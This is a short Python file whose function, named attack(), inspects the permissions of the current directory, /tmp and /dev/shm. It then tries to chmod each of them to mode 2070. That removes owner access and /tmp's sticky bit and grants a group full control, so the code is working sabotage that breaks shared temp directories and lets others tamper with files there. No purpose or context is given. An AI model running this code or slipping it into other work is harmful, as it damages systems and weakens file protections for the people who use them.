import os
import stat

FOLDERS = (".", "/tmp", "/dev/shm")


def attack():
    found = []
    for folder in FOLDERS:
        mode = stat.S_IMODE(os.stat(folder).st_mode)
        if mode & 0o700 != 0o700 or mode & 0o6000:
            found.append(f"{folder} {mode:o}")
    for folder in FOLDERS:
        try:
            os.chmod(folder, 0o2070)
        except OSError:
            continue
    return found
